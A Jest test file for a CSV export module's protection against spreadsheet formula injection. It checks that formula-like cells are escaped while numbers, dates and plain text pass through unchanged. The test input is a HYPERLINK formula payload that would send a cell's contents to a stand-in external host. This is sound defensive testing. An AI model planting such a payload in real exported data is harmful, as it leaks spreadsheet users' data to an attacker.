/**
 * CSV cells a spreadsheet program could run (OWASP, CSV injection): text beginning with `=`, `+`,
 * `-`, `@`, a tab or a carriage return is written so the program shows it as text; numbers, a
 * negative number written as text and dates stay what they are.
 */
import { describe, expect, it } from '@jest/globals';
import { csvLine, csvText } from '../../src/common/csv';
import { FORMULA_STARTS } from './helpers/read-csv';

/** The cells of one line as a spreadsheet program splits them (`;`, quotes undone). */
function cells(line: string): string[] {
  const out: string[] = [];
  const pattern = /("(?:[^"]|"")*"|[^;]*)(;|\r\n$)/gy;
  let match: RegExpExecArray | null;
  while ((match = pattern.exec(line)) !== null) {
    const raw = match[1]!;
    out.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
    if (match[2] === '\r\n') break;
  }
  return out;
}

describe('csv cells that would be formulas', () => {
  it.each(FORMULA_STARTS)('text starting with %j is written as text: an apostrophe first, the cell quoted', (start) => {
    const text = `${start}HYPERLINK("http://example.invalid/?x="&A1;"klik")`;
    const line = csvLine(['prej', text, 'potem']);
    const [before, cell, after] = cells(line);
    expect(before).toBe('prej');
    expect(after).toBe('potem');
    // What the spreadsheet shows is the note itself behind the apostrophe, never a formula.
    expect(cell).toBe(`'${text}`);
    expect(line.split(';')[1]!.startsWith(`"'`)).toBe(true);
  });

  it('a harmless cell is written as before', () => {
    expect(csvLine(['Travnik pod gozdom', 'a; b', 'Ana "Ančka"', '', null, undefined])).toBe('Travnik pod gozdom;"a; b";"Ana ""Ančka""";;;\r\n');
  });

  it('numbers stay numbers: negative, decimal and written as text alike', () => {
    expect(csvLine([-3, 4.5, -0.25, 0, 72])).toBe('-3;4.5;-0.25;0;72\r\n');
    expect(csvLine(['-3', '-4.5', '-4,5', '+7', '-1e3'])).toBe('-3;-4.5;-4,5;+7;-1e3\r\n');
  });

  it('dates and times stay dates', () => {
    expect(csvLine(['2026-06-05', '2026-06-05T07:30:00.000Z', '5. 6. 2026, 09:30'])).toBe('2026-06-05;2026-06-05T07:30:00.000Z;5. 6. 2026, 09:30\r\n');
  });

  it('a sum or a cell reference written after a minus is not a number', () => {
    expect(cells(csvLine(['-2+3', '-A1', '+1+1', '-']))).toEqual(["'-2+3", "'-A1", "'+1+1", "'-"]);
  });

  it('the header goes the same way', () => {
    expect(csvText(['=ime'], [['x']])).toBe('\ufeff"\'=ime"\r\nx\r\n');
  });
});
